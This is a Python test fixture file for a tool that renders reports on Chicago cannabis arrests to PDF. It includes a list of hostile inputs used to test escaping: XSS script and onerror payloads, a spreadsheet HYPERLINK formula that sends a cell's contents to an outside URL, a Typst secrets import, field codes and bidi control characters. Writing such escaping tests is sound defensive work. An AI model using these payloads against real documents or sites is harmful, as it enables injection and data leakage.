"""Reports: with everything in them, as they may be, and one whose every word tries to be more."""

from collections.abc import Callable
from io import BytesIO

import numpy as np
import pytest
from matplotlib.figure import Figure as Drawing
from PIL import Image

from cannabis_maps.brief.document import (
    Block,
    Bullets,
    Column,
    Figure,
    KeyFigure,
    KeyFigures,
    Paragraph,
    Report,
    Section,
    Table,
    Trend,
)
from cannabis_maps.brief.pdf import write_pdf

MakeReport = Callable[..., Report]

AREAS = 77
HOSTILE = (
    '#import "secrets.typ": *',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.com/?x="&A1)',
    "{{x}} ${x} %s {0}",
    "]]> --> </style></title></svg> &amp; &#60;",
    '" onmouseover="alert(1)',
    "TOC \\o \\h INCLUDETEXT",
    "Nul\x00l, be\x07ll, esc\x1b[31m and \ud800half",
    "right\u202eto\u2066left\u200fmarks",
    "W" * 60,
)


def drawn(name: str, **words: str) -> Figure:
    """Draw with what matplotlib writes: pictures, clips, patterns, letters as shapes."""
    drawing = Drawing(figsize=(6.5, 4.0))
    axes = drawing.add_subplot()
    axes.imshow(np.arange(12.0).reshape(3, 4), extent=(0, 4, 0, 3), interpolation="nearest")
    axes.bar([1, 2, 3], [1, 2, 3], hatch="//", facecolor="none", edgecolor="#333333")
    axes.plot([0, 4], [0.123456789, 3.0], linewidth=2)
    axes.set_title("Arrests by year")
    svg, png = BytesIO(), BytesIO()
    drawing.savefig(svg, format="svg", metadata={"Date": None})
    drawing.savefig(png, format="png", dpi=100)
    caption = words.get("caption", f"Arrests per year in {name}.")
    alt = words.get("alt", f"Arrests in {name} fall from 22,803 in 2007 to 1,210 in 2017.")
    return Figure(name, caption, alt, svg.getvalue(), png.getvalue(), (6.5, 4.0))


def table(rows: int) -> Table:
    columns = (
        Column("Community area"),
        Column("Arrests", "right"),
        Column("Per 1,000 residents per year", "right"),
        Column("Change", "right"),
        Column("Trend, 2001\u20132018"),
    )
    body = tuple(
        (
            f"Area {number} Park",
            f"{1000 * number:,}",
            f"{number / 7:.1f}",
            f"\u2212{number}%",
            Trend(
                tuple(float((number * year) % 13) for year in range(18)),
                f"Area {number}: from 0 in 2001 to {number * 17 % 13} in 2018",
            ),
        )
        for number in range(1, rows + 1)
    )
    return Table("areas", "Arrests by area, 2001 to 2018", columns, body, "Areas by number.")


@pytest.fixture(scope="session")
def report() -> Report:
    codes = Table("codes", "Codes", (Column("IUCR"), Column("Records", "right")), (("1811", "9"),))
    findings = Section(
        "findings",
        "What the records show",
        (Paragraph("Arrests fell after 2012."), drawn("chicago")),
        (
            Section("where", "Where", (drawn("west"), Paragraph("The City says.", "quote"))),
            Section("when", "When", (Bullets(("First a point.", "Then another.")),)),
        ),
    )
    return Report(
        title="Where Chicago police made arrests for possessing cannabis",
        subtitle="30 grams or less, 2001 to 2018",
        author="A. Author",
        subject="Arrests for possession of cannabis in Chicago",
        keywords=("Chicago", "cannabis", "arrests"),
        date="November 12, 2018",
        cover=(
            Paragraph("A quarter of a million arrests.", "lead"),
            KeyFigures(
                tuple(
                    KeyFigure(value, label)
                    for value, label in (
                        ("275,002", "arrests recorded"),
                        ("273,057", "of them mapped"),
                        ("22,803", "in 2007"),
                    )
                )
            ),
            Paragraph("Known to the block only.", "note"),
        ),
        sections=(
            findings,
            Section("areas", "Every area", (Paragraph("Sorted by number."), table(AREAS))),
            Section("method", "How this was made", (codes, Paragraph("No legal advice.", "note"))),
        ),
    )


@pytest.fixture(scope="session")
def hostile() -> tuple[str, ...]:
    return HOSTILE


@pytest.fixture(scope="session")
def hostile_report() -> Report:
    """Every word in every place that a report has for words."""
    columns = tuple(Column(text) for text in HOSTILE[:4])
    rows = tuple((text, text, Trend((1.0, 0.0), text), text) for text in HOSTILE)
    blocks: tuple[Block, ...] = (
        *(Paragraph(text, role) for text in HOSTILE for role in ("body", "lead", "note", "quote")),
        Bullets(HOSTILE),
        KeyFigures(tuple(KeyFigure(text, text) for text in HOSTILE)),
        *(Table(text, text, columns, rows, text) for text in HOSTILE[:2]),
        *(drawn("x", caption=text, alt=text) for text in HOSTILE),
    )
    sections = tuple(
        Section(text, text, blocks if index == 0 else (), (Section(text, text, ()),))
        for index, text in enumerate(HOSTILE)
    )
    joined = " ".join(HOSTILE)
    return Report(joined, joined, joined, joined, HOSTILE, joined, (), sections, '"><script>')


LONG_NAME = "Near North Side, Streeterville and River North neighborhoods"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="468pt" height="300pt" viewBox="0 0 468 300">'
    b'<rect width="468" height="300" fill="#7480b4"/></svg>'
)


def _png() -> bytes:
    target = BytesIO()
    Image.new("RGB", (195, 125), "#7480b4").save(target, "PNG")
    return target.getvalue()


def _figure(name: str, *, svg: bool = True) -> Figure:
    alt = f"Arrests are highest in the west: {name}"
    return Figure(name, f"Caption of {name}", alt, SVG if svg else b"", _png(), (6.5, 4.17))


def _area(number: int) -> tuple[str | Trend, ...]:
    name = LONG_NAME if number == 1 else f"Area {number}"
    counts = (f"{number * 1000 + index:,}" for index in range(5))
    return name, *counts, Trend((3.0, 2.0, float(number)), f"area {number} up")


def _areas() -> Table:
    columns = (
        Column("Community area"),
        *(Column(f"Arrests {index} per 1,000", "right") for index in range(5)),
        Column("By year"),
    )
    rows = tuple(_area(number) for number in range(1, 78))
    return Table("areas", "All areas", columns, rows, "Each chart has its own scale.")


def _report(
    cover: tuple[Block, ...] = (), sections: tuple[Section, ...] = (), **given: str
) -> Report:
    fields = {
        "title": "Where arrests were made",
        "subtitle": "What the records show",
        "author": "The authors",
        "subject": "Arrests",
        "date": "November 12, 2018",
        **given,
    }
    return Report(keywords=("Chicago", "cannabis"), cover=cover, sections=sections, **fields)


def _whole() -> Report:
    cover = (
        KeyFigures((KeyFigure("273,057", "arrests"), KeyFigure("1,195", "in 2018"))),
        Paragraph("Half of them in twelve areas.", "lead"),
        _figure("cover"),
    )
    short = Table("short", "No rows", (Column("Area"), Column("Arrests", "right")), ())
    sections = (
        Section(
            "records",
            "The records",
            (Paragraph("A first paragraph, " * 40), Bullets(("One point.", "Another point."))),
            (Section("where", "Where", (Paragraph("Said they.", "quote"), _figure("map"))),),
        ),
        Section("areas", "All areas", (_areas(), short, Paragraph("A small note.", "note"))),
        Section("nothing", "Nothing here", ()),
        Section("picture", "A picture", (_figure("picture", svg=False),)),
    )
    return _report(cover, sections)


@pytest.fixture(scope="session")
def make_report() -> MakeReport:
    """Return a maker of reports from their blocks and any other fields."""
    return _report


@pytest.fixture(scope="session")
def whole() -> Report:
    """Return a report with every kind of block."""
    return _whole()


@pytest.fixture(scope="session")
def whole_pdf(whole: Report) -> bytes:
    """Return the file of it."""
    return write_pdf(whole)
